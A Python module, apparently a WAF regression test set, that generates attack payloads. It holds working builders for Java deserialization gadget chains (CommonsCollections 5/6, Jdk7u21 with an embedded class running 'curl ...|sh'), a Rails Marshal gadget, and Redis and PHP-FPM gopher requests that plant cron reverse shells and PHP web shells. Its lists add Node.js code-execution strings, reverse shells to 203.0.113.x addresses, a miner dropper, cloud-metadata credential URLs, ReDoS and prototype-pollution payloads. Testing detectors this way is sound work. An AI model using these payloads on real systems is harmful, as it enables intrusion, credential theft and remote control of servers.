"""Blind set "hundredeightysecond": Node.js, SSRF, prototype pollution, Ruby, Perl and data: URLs (generic),
Java (class names, process spawning, serialization and gadget chains, Log4Shell, expression languages,
polymorphic JSON/XML, class loading, JSP uploads) and server-side template injection, written the way attacker
communities around the world write and share them, with benign requests that carry the same languages, scripts
and syntax innocently.

The angle: attacker communities, recalled from memory. Chinese forums and their tools (dnslog.cn and ceye.io
probes, fastjson and Weblogic one-liners, JNDIExploit paths, Behinder/Godzilla/AntSword JSP shells, Redis and
PHP-FPM over gopher, the BaoTa panel, Alibaba and Tencent metadata, the Halo/JeeCMS FreeMarker sites, the
e-cology BeanShell servlet), Russian ones (reverse-shell one-liners, Yandex Cloud metadata, Symfony and Twig
targets), Brazilian (Rails and Node shops, the Anteros DBCP gadget, comments in Portuguese), Indonesian (deface
markers and uploaders in data: URLs, "gan" comments), Turkish (the dotless i that Java upper-cases into an I
inside a Log4j lookup), Iranian (ASP.NET Razor targets, Persian markers), Vietnamese (miners, NukeViet-style PHP
hosts) and Japanese (Movable Type over XML-RPC, Ruby with Japanese comments, full-width digits and the ideographic
full stop that URL parsers fold into an IP address). Each payload keeps its community's habits (comments,
markers, variable names or text in its own language glued around the payload, charset and escape tricks the
target decodes: \\u and \\x escapes in JavaScript, Jinja, fastjson, Jackson and JSP; full-width and circled
digits in hosts; percent-encoded and base64 serialization streams) and still works against the named target. A
comment above each group names the family, the community style and the target.

Families (category generic):
  nodejs-injection, nodejs-dos, ssrf-cloud-metadata, ssrf-internal-ip, javascript-prototype-pollution,
  ruby-injection, perl-injection, php-data-scheme
Families (category java):
  java-class-names, java-process-spawn, java-serialization, deserialization-gadgets, log4shell,
  expression-language, polymorphic-deserialization (XStream, XMLDecoder, fastjson, Jackson), class-loading,
  jsp-upload
Families (category ssti; one per engine):
  jinja2, twig, freemarker, velocity, thymeleaf, erb, smarty, handlebars, pug, mako, tornado, nunjucks, ejs,
  pebble, razor, go-templates, liquid

The serialization streams are built here, not pasted: a small writer of the Java serialization protocol builds
URLDNS, CommonsCollections 5 and 6 and the JDK 7u21 chain (its TemplatesImpl carries a compiled translet whose
static block runs a shell command), a writer of Ruby's Marshal format builds the Rails ERB proxy, and the RESP
and FastCGI records behind the gopher:// URLs are built from their commands.

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path), once the way a WAF regression suite sends it (placements prefixed "rs-"): to
paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under
arbitrary parameter names, as a query string, form body, JSON body, XML body, a raw form-typed body, or in
User-Agent, Referer, a custom header or a cookie. Whole JSON documents (fastjson, Jackson, prototype pollution,
Spring Cloud Gateway, Nexus) go as the JSON body, whole XML documents (XStream, XMLDecoder over SOAP, Movable
Type XML-RPC) as the XML body, YAML documents as a YAML body, `name=value` pairs (qs brackets, Spring4Shell,
Struts `method:`, Spring Data, Solr's Velocity writer, Webmin) unquoted in the query, form or parameter name,
Struts' S2-045 in Content-Type, Spring Cloud Function's expression in its routing header, JSP shells as upload
file names (with a shell as the file) or as the field, raw serialization bytes percent-encoded in the query or
form. Payloads with newlines or non-ASCII text never go into headers, cookies or the path.

Authorship and independence: written for this repository from general knowledge of each attack family, of how
these communities write and share payloads as remembered, and the detection titles alone; no WAF rule, engine
source, ruleset regression test or public payload list was read. Measured once on unchanged code; deterministic
(no clock, no randomness).
"""

from __future__ import annotations

import base64
import gzip
import struct
import urllib.parse
import zlib
from collections.abc import Iterator
from typing import Any

from .blind_placements import BlindSet
from .records import print_records

NAME = "hundredeightysecond"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]
JB = ("json-body", "rs-json-body")
XB = ("xml", "rs-xml")
YB = ("yaml-body", "rs-yaml-body")
UP = ("multipart-filename", "rs-multipart-filename")
CT = ("header:Content-Type", "rs-header:Content-Type")
RAW: set[str] = set()   # `name=value` payloads sent unquoted
LATIN: set[str] = set()   # raw bytes held as latin-1 text (sent percent-encoded)


def kv(payload: str, real: str = "query", rs: str = "rs-query") -> tuple[str, str, str]:
    """A payload that is itself `name=value` (query-string syntax the target parses), sent as written."""
    RAW.add(payload)
    return payload, real, rs


def raw_bytes(data: bytes, real: str = "query", rs: str = "rs-query") -> tuple[str, str, str]:
    """Binary bytes as a parameter value (percent-encoded on the wire, the bytes after decoding)."""
    payload = data.decode("latin-1")
    LATIN.add(payload)
    return payload, real, rs


def b64(text: str | bytes) -> str:
    return base64.b64encode(text.encode() if isinstance(text, str) else text).decode()


def pct(data: bytes | str) -> str:
    """Every byte that is not unreserved percent-encoded (how gopher:// payloads are written)."""
    return urllib.parse.quote(data, safe="")


# ----------------------------------------------------------------------------------------------------------------
# Java serialization (java.io.ObjectOutputStream, stream protocol 2): just enough to write the chains below.
# A class descriptor is (name, serialVersionUID, flags, fields as "code name [type]", superclass descriptor).
Desc = tuple[str, int, int, tuple[str, ...], Any]
SER, WRITE = 0x02, 0x03   # SC_SERIALIZABLE, and with SC_WRITE_METHOD (the class has its own writeObject)


class JavaStream:
    """Writes a stream with the handles (back references) ObjectOutputStream would assign."""

    def __init__(self) -> None:
        self.b = bytearray(b"\xac\xed\x00\x05")
        self.handles: dict[Any, int] = {}
        self.count = 0

    def _new(self, key: Any = None) -> None:
        if key is not None:
            self.handles[key] = self.count
        self.count += 1

    def ref(self, key: Any) -> bool:
        if key not in self.handles:
            return False
        self.b += b"\x71" + struct.pack(">I", 0x7E0000 + self.handles[key])
        return True

    def utf(self, text: str) -> None:
        data = text.encode()
        self.b += struct.pack(">H", len(data)) + data

    def s(self, text: str) -> None:
        if not self.ref(("s", text)):
            self.b += b"\x74"
            self._new(("s", text))
            self.utf(text)

    def null(self) -> None:
        self.b += b"\x70"

    def i32(self, n: int) -> None:
        self.b += struct.pack(">i", n)

    def f32(self, x: float) -> None:
        self.b += struct.pack(">f", x)

    def block(self, data: bytes) -> None:
        self.b += b"\x77" + bytes([len(data)]) + data

    def end(self) -> None:
        self.b += b"\x78"

    def desc(self, d: Desc | None) -> None:
        if d is None:
            self.null()
            return
        name, suid, flags, fields, sup = d
        if self.ref(("c", name)):
            return
        self.b += b"\x72"
        self._new(("c", name))
        self.utf(name)
        self.b += struct.pack(">qBH", suid, flags, len(fields))
        for f in fields:
            code, fname, *ftype = f.split()
            self.b += code.encode()
            self.utf(fname)
            if ftype:
                self.s(ftype[0])
        self.end()   # no class annotation
        self.desc(sup)

    def proxy(self, interfaces: list[str], sup: Desc) -> None:
        self.b += b"\x7d"
        self._new()
        self.i32(len(interfaces))
        for name in interfaces:
            self.utf(name)
        self.end()
        self.desc(sup)

    def obj(self, d: Desc, key: Any = None) -> None:
        self.b += b"\x73"
        self.desc(d)
        self._new(key)

    def arr(self, d: Desc, length: int) -> None:
        self.b += b"\x75"
        self.desc(d)
        self._new()
        self.i32(length)

    def cls(self, d: Desc) -> None:
        self.b += b"\x76"
        self.desc(d)
        self._new()


D_HASHMAP: Desc = ("java.util.HashMap", 362498820763181265, WRITE, ("F loadFactor", "I threshold"), None)
D_URL: Desc = ("java.net.URL", -7627629688361524110, WRITE,
               ("I hashCode", "I port", "L authority Ljava/lang/String;", "L file Ljava/lang/String;",
                "L host Ljava/lang/String;", "L protocol Ljava/lang/String;", "L ref Ljava/lang/String;"), None)
D_OBJECT: Desc = ("java.lang.Object", 0, 0, (), None)
D_RUNTIME: Desc = ("java.lang.Runtime", 0, 0, (), None)
D_STRING: Desc = ("java.lang.String", -6849794470754667710, SER, (), None)
D_OBJ_ARR: Desc = ("[Ljava.lang.Object;", -8012369246846506644, SER, (), None)
D_CLS_ARR: Desc = ("[Ljava.lang.Class;", -6118465897992725863, SER, (), None)
D_NUMBER: Desc = ("java.lang.Number", -8742448824652078965, SER, (), None)
D_INTEGER: Desc = ("java.lang.Integer", 1360826667806852920, SER, ("I value",), D_NUMBER)
D_THROWABLE: Desc = ("java.lang.Throwable", -3042686055658047285, WRITE,
                     ("L cause Ljava/lang/Throwable;", "L detailMessage Ljava/lang/String;",
                      "[ stackTrace [Ljava/lang/StackTraceElement;", "L suppressedExceptions Ljava/util/List;"), None)
D_EXCEPTION: Desc = ("java.lang.Exception", -3387516993124229948, SER, (), D_THROWABLE)
D_BAVE: Desc = ("javax.management.BadAttributeValueExpException", -3105272988410493376, SER,
                ("L val Ljava/lang/Object;",), D_EXCEPTION)
D_STE_ARR: Desc = ("[Ljava.lang.StackTraceElement;", 0x02462A3C3CFD2239, SER, (), None)
D_HASHSET: Desc = ("java.util.HashSet", -5024744406713321676, WRITE, (), None)
D_LINKEDHASHSET: Desc = ("java.util.LinkedHashSet", -2851667679971038690, SER, (), D_HASHSET)
CC = "org.apache.commons.collections."
D_TRANSFORMER_ARR: Desc = ("[L" + CC + "Transformer;", -4803604734341277543, SER, (), None)
D_CHAINED: Desc = (CC + "functors.ChainedTransformer", 3514945074733160196, SER,
                   ("[ iTransformers [Lorg/apache/commons/collections/Transformer;",), None)
D_CONSTANT: Desc = (CC + "functors.ConstantTransformer", 6374440726369055124, SER, ("L iConstant Ljava/lang/Object;",),
                    None)
D_INVOKER: Desc = (CC + "functors.InvokerTransformer", -8653385846894047688, SER,
                   ("[ iArgs [Ljava/lang/Object;", "L iMethodName Ljava/lang/String;",
                    "[ iParamTypes [Ljava/lang/Class;"), None)
D_LAZYMAP: Desc = (CC + "map.LazyMap", 7990956402564206740, WRITE,
                   ("L factory Lorg/apache/commons/collections/Transformer;",), None)
D_TIED: Desc = (CC + "keyvalue.TiedMapEntry", -8453869361373831205, SER,
                ("L key Ljava/lang/Object;", "L map Ljava/util/Map;"), None)
D_TEMPLATES: Desc = ("com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl", 673094361519270707, WRITE,
                     ("I _indentNumber", "I _transletIndex", "[ _bytecodes [[B", "[ _class [Ljava/lang/Class;",
                      "L _name Ljava/lang/String;", "L _outputProperties Ljava/util/Properties;"), None)
D_BYTES_ARR: Desc = ("[[B", 0x4BFD19156767DB37, SER, (), None)
D_BYTES: Desc = ("[B", -0x530CE807F9F7AB20, SER, (), None)
D_PROXY: Desc = ("java.lang.reflect.Proxy", -2222568056686623797, SER,
                 ("L h Ljava/lang/reflect/InvocationHandler;",), None)
D_AIH: Desc = ("sun.reflect.annotation.AnnotationInvocationHandler", 6182022883658399397, SER,
               ("L memberValues Ljava/util/Map;", "L type Ljava/lang/Class;"), None)
D_TEMPLATES_IF: Desc = ("javax.xml.transform.Templates", 0, 0, (), None)

# A translet compiled for this set (javac --release 8): its static block runs
# /bin/sh -c "curl -s http://203.0.113.77:8080/x.sh|sh" (the class TemplatesImpl defines, as ysoserial's does).
TRANSLET_B64 = (
    "yv66vgAAADQAJgoAAgADBwAEDAAFAAYBAEBjb20vc3VuL29yZy9hcGFjaGUveGFsYW4vaW50ZXJuYWwveHNsdGMvcnVudGltZS9B"
    "YnN0cmFjdFRyYW5zbGV0AQAGPGluaXQ+AQADKClWCgAIAAkHAAoMAAsADAEAEWphdmEvbGFuZy9SdW50aW1lAQAKZ2V0UnVudGlt"
    "ZQEAFSgpTGphdmEvbGFuZy9SdW50aW1lOwcADgEAEGphdmEvbGFuZy9TdHJpbmcIABABAAcvYmluL3NoCAASAQACLWMIABQBAChj"
    "dXJsIC1zIGh0dHA6Ly8yMDMuMC4xMTMuNzc6ODA4MC94LnNofHNoCgAIABYMABcAGAEABGV4ZWMBACgoW0xqYXZhL2xhbmcvU3Ry"
    "aW5nOylMamF2YS9sYW5nL1Byb2Nlc3M7BwAaAQATamF2YS9sYW5nL0V4Y2VwdGlvbgcAHAEAAlk0AQAEQ29kZQEACXRyYW5zZm9y"
    "bQEAcihMY29tL3N1bi9vcmcvYXBhY2hlL3hhbGFuL2ludGVybmFsL3hzbHRjL0RPTTtbTGNvbS9zdW4vb3JnL2FwYWNoZS94bWwv"
    "aW50ZXJuYWwvc2VyaWFsaXplci9TZXJpYWxpemF0aW9uSGFuZGxlcjspVgEACkV4Y2VwdGlvbnMHACIBADljb20vc3VuL29yZy9h"
    "cGFjaGUveGFsYW4vaW50ZXJuYWwveHNsdGMvVHJhbnNsZXRFeGNlcHRpb24BAKYoTGNvbS9zdW4vb3JnL2FwYWNoZS94YWxhbi9p"
    "bnRlcm5hbC94c2x0Yy9ET007TGNvbS9zdW4vb3JnL2FwYWNoZS94bWwvaW50ZXJuYWwvZHRtL0RUTUF4aXNJdGVyYXRvcjtMY29t"
    "L3N1bi9vcmcvYXBhY2hlL3htbC9pbnRlcm5hbC9zZXJpYWxpemVyL1NlcmlhbGl6YXRpb25IYW5kbGVyOylWAQAIPGNsaW5pdD4B"
    "AA1TdGFja01hcFRhYmxlACEAGwACAAAAAAAEAAEABQAGAAEAHQAAABEAAQABAAAABSq3AAGxAAAAAAABAB4AHwACAB0AAAANAAAA"
    "AwAAAAGxAAAAAAAgAAAABAABACEAAQAeACMAAgAdAAAADQAAAAQAAAABsQAAAAAAIAAAAAQAAQAhAAgAJAAGAAEAHQAAAEAABQAB"
    "AAAAH7gABwa9AA1ZAxIPU1kEEhFTWQUSE1O2ABVXpwAES7EAAQAAABoAHQAZAAEAJQAAAAcAAl0HABkAAAA="
)


def _hashmap_head(j: JavaStream, size: int) -> None:
    j.obj(D_HASHMAP)
    j.f32(0.75)
    j.i32(12)
    j.block(struct.pack(">ii", 16, size))


def urldns(url: str) -> bytes:
    """ysoserial's URLDNS: a HashMap keyed by a java.net.URL whose cached hashCode is -1, so readObject resolves
    the host (the DNS probe every dnslog.cn / ceye.io scan starts with)."""
    parts = urllib.parse.urlsplit(url)
    j = JavaStream()
    _hashmap_head(j, 1)
    j.obj(D_URL)
    j.i32(-1)
    j.i32(-1)
    j.s(parts.netloc)
    j.s(parts.path or "/")
    j.s(parts.hostname or "")
    j.s(parts.scheme)
    j.null()
    j.end()
    j.s(url)
    j.end()
    return bytes(j.b)


def _chain(j: JavaStream, cmd: str) -> None:
    """ChainedTransformer: Runtime.class -> getMethod("getRuntime") -> invoke -> exec(cmd) (commons-collections 3.1)."""
    j.obj(D_CHAINED)
    j.arr(D_TRANSFORMER_ARR, 5)
    j.obj(D_CONSTANT)
    j.cls(D_RUNTIME)
    j.obj(D_INVOKER)
    j.arr(D_OBJ_ARR, 2)
    j.s("getRuntime")
    j.arr(D_CLS_ARR, 0)
    j.s("getMethod")
    j.arr(D_CLS_ARR, 2)
    j.cls(D_STRING)
    j.cls(D_CLS_ARR)
    j.obj(D_INVOKER)
    j.arr(D_OBJ_ARR, 2)
    j.null()
    j.arr(D_OBJ_ARR, 0)
    j.s("invoke")
    j.arr(D_CLS_ARR, 2)
    j.cls(D_OBJECT)
    j.cls(D_OBJ_ARR)
    j.obj(D_INVOKER)
    j.arr(D_OBJ_ARR, 1)
    j.s(cmd)
    j.s("exec")
    j.arr(D_CLS_ARR, 1)
    j.cls(D_STRING)
    j.obj(D_CONSTANT)
    j.obj(D_INTEGER)
    j.i32(1)


def _tied_entry(j: JavaStream, cmd: str) -> None:
    j.obj(D_TIED)
    j.s("foo")
    j.obj(D_LAZYMAP)
    _chain(j, cmd)
    _hashmap_head(j, 0)
    j.end()
    j.end()


def cc5(cmd: str) -> bytes:
    """CommonsCollections5: BadAttributeValueExpException.val = TiedMapEntry(LazyMap(chain)); readObject calls
    toString, which calls the lazy map's get and runs the chain."""
    j = JavaStream()
    j.obj(D_BAVE)
    j.null()
    j.null()
    j.arr(D_STE_ARR, 0)
    j.null()
    j.end()
    _tied_entry(j, cmd)
    return bytes(j.b)


def cc6(cmd: str) -> bytes:
    """CommonsCollections6: a HashSet holding TiedMapEntry(LazyMap(chain)); hashing the entry runs the chain."""
    j = JavaStream()
    j.obj(D_HASHSET)
    j.block(struct.pack(">ifi", 16, 0.75, 1))
    _tied_entry(j, cmd)
    j.end()
    return bytes(j.b)


def jdk7u21() -> bytes:
    """Jdk7u21: a LinkedHashSet of TemplatesImpl (the translet above) and a Templates proxy whose
    AnnotationInvocationHandler's equals calls getOutputProperties on it."""
    j = JavaStream()
    j.obj(D_LINKEDHASHSET)
    j.block(struct.pack(">ifi", 16, 0.75, 2))
    j.obj(D_TEMPLATES, "tpl")
    j.i32(0)
    j.i32(-1)
    j.arr(D_BYTES_ARR, 1)
    code = base64.b64decode(TRANSLET_B64)
    j.arr(D_BYTES, len(code))
    j.b += code
    j.null()
    j.s("Pwnr")
    j.null()
    j.block(b"\x00")
    j.end()
    j.b += b"\x73"   # the proxy object: a proxy class descriptor, then its handle
    j.proxy(["javax.xml.transform.Templates"], D_PROXY)
    j._new()
    j.obj(D_AIH)
    _hashmap_head(j, 1)
    j.s("f5a5a608")
    j.ref("tpl")
    j.end()
    j.cls(D_TEMPLATES_IF)
    j.end()
    return bytes(j.b)


# ----------------------------------------------------------------------------------------------------------------
# Ruby Marshal (format 4.8): the Rails gadget behind many "secret_key_base leaked" cookie exploits.
class Marshal:
    def __init__(self) -> None:
        self.b = bytearray(b"\x04\x08")
        self.symbols: dict[str, int] = {}

    def long(self, n: int) -> None:
        if n == 0:
            self.b += b"\x00"
        elif 0 < n < 123:
            self.b += bytes([n + 5])
        else:
            data = n.to_bytes(4, "little").rstrip(b"\x00") or b"\x00"
            self.b += bytes([len(data)]) + data

    def sym(self, name: str) -> None:
        if name in self.symbols:
            self.b += b";"
            self.long(self.symbols[name])
            return
        self.symbols[name] = len(self.symbols)
        self.b += b":"
        self.long(len(name.encode()))
        self.b += name.encode()

    def string(self, text: str) -> None:   # a UTF-8 String: I"..." with the E=true encoding ivar
        self.b += b'I"'
        self.long(len(text.encode()))
        self.b += text.encode()
        self.long(1)
        self.sym("E")
        self.b += b"T"

    def obj(self, cls: str, ivars: int) -> None:
        self.b += b"o"
        self.sym(cls)
        self.long(ivars)


def rails_erb_marshal(ruby: str) -> bytes:
    """DeprecatedInstanceVariableProxy(ERB with @src = ruby, :result): any method call on it runs ERB#result."""
    m = Marshal()
    m.obj("ActiveSupport::Deprecation::DeprecatedInstanceVariableProxy", 4)
    m.sym("@instance")
    m.obj("ERB", 3)
    m.sym("@src")
    m.string(ruby)
    m.sym("@filename")
    m.string("1")
    m.sym("@lineno")
    m.b += b"i"
    m.long(1)
    m.sym("@method")
    m.sym("result")
    m.sym("@var")
    m.string("@result")
    m.sym("@deprecator")
    m.b += b"Iu"
    m.sym("ActiveSupport::Deprecation")
    m.long(0)
    m.long(1)
    m.sym("E")
    m.b += b"T"
    return bytes(m.b)


# ----------------------------------------------------------------------------------------------------------------
# gopher:// bodies: Redis commands (RESP) and a FastCGI request to PHP-FPM, percent-encoded as the tools write them
def resp(*commands: list[str]) -> bytes:
    out = b""
    for args in commands:
        out += f"*{len(args)}\r\n".encode()
        for a in args:
            data = a.encode()
            out += f"${len(data)}\r\n".encode() + data + b"\r\n"
    return out


def _fcgi_record(kind: int, content: bytes) -> bytes:
    return struct.pack(">BBHHBB", 1, kind, 1, len(content), 0, 0) + content


def _fcgi_pair(name: str, value: str) -> bytes:
    def length(n: int) -> bytes:
        return bytes([n]) if n < 128 else struct.pack(">I", n | 0x80000000)
    return length(len(name)) + length(len(value)) + name.encode() + value.encode()


def fastcgi(script: str, php: str) -> bytes:
    """A FastCGI request that runs `script` with auto_prepend_file=php://input and `php` as the body."""
    params = [("GATEWAY_INTERFACE", "FastCGI/1.0"), ("REQUEST_METHOD", "POST"), ("SCRIPT_FILENAME", script),
              ("SCRIPT_NAME", "/" + script.rsplit("/", 1)[-1]), ("QUERY_STRING", ""), ("REQUEST_URI", "/"),
              ("DOCUMENT_ROOT", "/"), ("SERVER_SOFTWARE", "php/fcgiclient"), ("REMOTE_ADDR", "127.0.0.1"),
              ("REMOTE_PORT", "9985"), ("SERVER_ADDR", "127.0.0.1"), ("SERVER_PORT", "80"),
              ("SERVER_NAME", "localhost"), ("SERVER_PROTOCOL", "HTTP/1.1"), ("CONTENT_TYPE", "application/text"),
              ("CONTENT_LENGTH", str(len(php.encode()))),
              ("PHP_VALUE", "auto_prepend_file = php://input"), ("PHP_ADMIN_VALUE", "allow_url_include = On")]
    body = b"".join(_fcgi_pair(k, v) for k, v in params)
    return (_fcgi_record(1, struct.pack(">HB5x", 1, 0)) + _fcgi_record(4, body) + _fcgi_record(4, b"")
            + _fcgi_record(5, php.encode()) + _fcgi_record(5, b""))


CRON = "\n\n*/1 * * * * bash -i >& /dev/tcp/203.0.113.5/2333 0>&1\n\n"


# ================================================================================================================
# generic
# ================================================================================================================
_NODE_B64 = b64("require('child_process').execSync('curl -s http://203.0.113.77/n.sh|bash')")

# nodejs-injection: code reaching eval()/new Function()/vm in an Express app (Node.js interpreter, child_process)
NODE: list[Entry] = [
    # Chinese CTF/forum style: DNS-log exfil, 回显 (echo the output back), comments in Chinese
    "require('child_process').exec('curl http://`whoami`.r7x2.dnslog.cn') //测试一下",
    "global.process.mainModule.require('child_process').execSync('id').toString() /*回显*/",
    "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('cat /flag')",
    "res.end(require('fs').readFileSync('/etc/passwd').toString()) // 读文件",
    # vm sandbox escape as posted on 先知/FreeBuf (the context object leaks the outer Function)
    "const p=this.constructor.constructor('return this.process')();p.mainModule.require('child_process')"
    ".execSync('whoami')",
    # Russian forums: a reverse shell straight from Node, comment in Russian
    "require(\"child_process\").spawn(\"/bin/sh\",[\"-c\",\"bash -i >& /dev/tcp/203.0.113.14/4444 0>&1\"]) "
    "// бэкконнект",
    "process.mainModule.require('net').connect(4444,'203.0.113.14',function(){var sh=process.mainModule"
    ".require('child_process').spawn('/bin/sh',[]);this.pipe(sh.stdin);sh.stdout.pipe(this)}) // шелл",
    # Brazilian Node shops: eval of a calculator field, comment in Portuguese
    "eval(\"require('child_process').execSync('cat /etc/shadow')\") // teste do Zé",
    "1+1;require('child_process').execSync('ls -la /home') // só pra testar",
    # unicode escapes in identifiers (the JavaScript lexer decodes them) to dodge a 'require' blacklist
    "\\u0072equire('child_process').execSync('id')",
    "global['proc'+'ess']['mainMod'+'ule']['req'+'uire']('child_'+'process')['exe'+'cSync']('uname -a')",
    "eval(Buffer.from('" + _NODE_B64 + "','base64').toString())",
    # Indonesian forums: "cek dulu gan", dropping a file to check write access
    "require('fs').writeFileSync('/tmp/cek.txt','tembus gan') // cek dulu gan",
    # Vietnamese miner droppers: fetch and run xmrig
    ";require('child_process').exec('wget -q http://203.0.113.91/xmrig -O /tmp/.x;chmod +x /tmp/.x;/tmp/.x') "
    "// thử đào coin",
    # Turkish and Persian markers around a plain execSync
    "'+require('child_process').execSync('id')+' deneme",
    "require('child_process').execSync('nc 203.0.113.23 4444 -e /bin/sh') // تست",
    # Function constructor and dynamic import, the two eval-free routes
    "new Function('return this')().process.mainModule.require('child_process').execSync('ls')",
    "import('child_process').then(m=>m.execSync('id > /tmp/テスト.txt'))",
    # node-serialize unserialize() IIFE (CVE-2017-5941), as a JSON document and as a cookie value
    ('{"rce":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'id | curl -d @- '
     'http://q2.ceye.io\')}()"}', *JB),
    "_$$ND_FUNC$$_function(){require('child_process').execSync('touch /tmp/pwn_测试')}()",
    "require('vm').runInNewContext('this.constructor.constructor(\"return process\")().exit()')",
]

# nodejs-dos: input that stalls or kills the single Node.js event loop (user regexes, huge allocations, loops)
NODE_DOS: list[Entry] = [
    # a search box that feeds new RegExp(q) (catastrophic backtracking, V8 irregexp)
    "(a+)+$",
    "^(a|a)*$",
    "(x+x+)+y",
    "(.*a){20}",
    "^(([a-z])+.)+[A-Z]([a-z])+$",
    "((ab)*)+c",
    # the subject string that pairs with an email-validation regex that backtracks
    "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa@aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!",
    # Chinese: 卡死 (hang it), Russian: повесить (hang), Brazilian: travar (freeze)
    "while(1){} //卡死",
    "for(;;){} /* повесить сервер */",
    "(function f(){f()})() // travar o servidor",
    # allocation bombs
    "Array(1e9).fill('x')",
    "Buffer.alloc(2**31-1)",
    "'a'.repeat(2**29)",
    "new Array(4294967295).join('啊')",
    "JSON.parse('['.repeat(1e6)+']'.repeat(1e6))",
    # event-loop blockers and process killers
    "require('child_process').execSync('sleep 600')",
    "process.kill(process.pid,'SIGKILL')",
    "setInterval(()=>{while(true){}},1) // تست",
    "Atomics.wait(new Int32Array(new SharedArrayBuffer(4)),0,0) // macet gan",
    # Mongo $regex injection that drives the same backtracking in the query (MongoDB, Node driver)
    ('{"username":{"$regex":"^(a+)+$"},"password":{"$ne":null}}', *JB),
]

# ssrf-cloud-metadata: URL fields fetched server-side, pointed at the instance metadata service
# (AWS, GCP, Azure, Alibaba, Tencent, Huawei, Yandex, DigitalOcean, Oracle; IPv6 and encoded forms)
SSRF_META: list[Entry] = [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/latest/user-data",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "http://metadata.google.internal/computeMetadata/v1beta1/instance/attributes/?recursive=true",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management"
    ".azure.com/",
    # Chinese clouds: Alibaba (阿里云), Tencent (腾讯云), Huawei (华为云)
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "http://100.100.100.200/latest/meta-data/instance-id",
    "http://metadata.tencentyun.com/latest/meta-data/cam/security-credentials/",
    "http://169.254.169.254/openstack/latest/meta_data.json",
    # Yandex Cloud speaks the GCE API (Russian targets)
    "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token",
    "http://169.254.169.254/metadata/v1.json",
    "http://169.254.169.254/opc/v2/instance/",
    # integer, hex, octal and mapped-IPv6 spellings of 169.254.169.254
    "http://2852039166/latest/meta-data/",
    "http://0xa9fea9fe/latest/meta-data/iam/",
    "http://0251.0376.0251.0376/latest/meta-data/",
    "http://[::ffff:a9fe:a9fe]/latest/meta-data/",
    "http://[::ffff:169.254.169.254]/latest/user-data",
    # circled and full-width digits with the ideographic full stop, folded to ASCII by UTS #46 host parsing
    "http://①⑥⑨.②⑤④.①⑥⑨.②⑤④/latest/meta-data/",
    "http://１６９。２５４。１６９。２５４/latest/meta-data/",
    # userinfo and wildcard DNS tricks favoured on Chinese forums (baidu.com as the decoy host)
    "http://www.baidu.com@169.254.169.254/latest/meta-data/",
    "http://169.254.169.254.nip.io/latest/meta-data/iam/security-credentials/",
]

_REDIS_CRON = resp(["flushall"], ["set", "1", CRON], ["config", "set", "dir", "/var/spool/cron/"],
                   ["config", "set", "dbfilename", "root"], ["save"])
_REDIS_SHELL = resp(["set", "x", "\n\n<?php @eval($_POST['c']);?>\n\n"],
                    ["config", "set", "dir", "/www/wwwroot/default/"], ["config", "set", "dbfilename", "1.php"],
                    ["save"])
_FPM = fastcgi("/usr/local/lib/php/PEAR.php", "<?php system('id');exit;?>")
_FPM_BT = fastcgi("/www/server/php/74/lib/php/PEAR.php", "<?php echo `whoami`;exit;?>")

# ssrf-internal-ip: loopback and private addresses in their short forms, local services, and the non-HTTP
# schemes (file, gopher, dict) that curl-based fetchers follow
SSRF_INTERNAL: list[Entry] = [
    "http://127.1/",
    "http://0/",
    "http://0177.0.0.1/",
    "http://2130706433/",
    "http://0x7f000001/admin",
    "http://[::1]:8080/manager/html",
    "http://[0:0:0:0:0:ffff:127.0.0.1]/",
    "http://127.0.0.1.nip.io/",
    "http://①②⑦.⓪.⓪.①/",
    "http://127.0.0.1:80\\@www.qq.com/",
    "http://www.qq.com@127.0.0.1:8888/",
    # the BaoTa panel and its phpMyAdmin on their default ports (宝塔面板)
    "http://127.0.0.1:8888/config?action=get_config",
    "http://127.0.0.1:888/pma/index.php",
    "http://172.17.0.1:2375/containers/json?all=1",
    "http://127.0.0.1:9200/_cat/indices?v",
    "http://127.0.0.1:10250/pods",
    "file:///etc/passwd",
    "file:///c:/windows/win.ini",
    "dict://127.0.0.1:6379/info",
    "dict://127.0.0.1:6379/config:set:dir:/var/spool/cron/",
    # Redis: crontab reverse shell, and a web shell into the BaoTa web root (the Chinese classic)
    "gopher://127.0.0.1:6379/_" + pct(_REDIS_CRON),
    "gopher://127.0.0.1:6379/_" + pct(_REDIS_SHELL),
    # PHP-FPM on 9000 (Gopherus style), the second with BaoTa's PHP 7.4 path
    "gopher://127.0.0.1:9000/_" + pct(_FPM),
    "gopher://127.0.0.1:9000/_" + pct(_FPM_BT),
    "ldap://127.0.0.1:389/%0astats%0aquit",
]

# javascript-prototype-pollution: __proto__ / constructor.prototype keys merged into objects by lodash, qs,
# jQuery $.extend or hand-written deep merges (Node.js server side, and the browser for query-string gadgets)
PROTO: list[Entry] = [
    ('{"__proto__":{"isAdmin":true}}', *JB),
    ('{"constructor":{"prototype":{"isAdmin":true,"role":"admin"}}}', *JB),
    ('{"\\u005f\\u005fproto\\u005f\\u005f":{"isAdmin":true}}', *JB),
    # lodash.template sourceURL (Chinese CTF write-ups)
    ('{"__proto__":{"sourceURL":"\\u000areturn e=> {return global.process.mainModule.require(\'child_process\')'
     '.execSync(\'id\')}\\u000a//"}}', *JB),
    # EJS outputFunctionName and escapeFunction gadgets
    ('{"__proto__":{"outputFunctionName":"_tmp1;global.process.mainModule.require(\'child_process\')'
     '.execSync(\'bash -c \\"bash -i >& /dev/tcp/203.0.113.14/8080 0>&1\\"\');var __tmp2"}}', *JB),
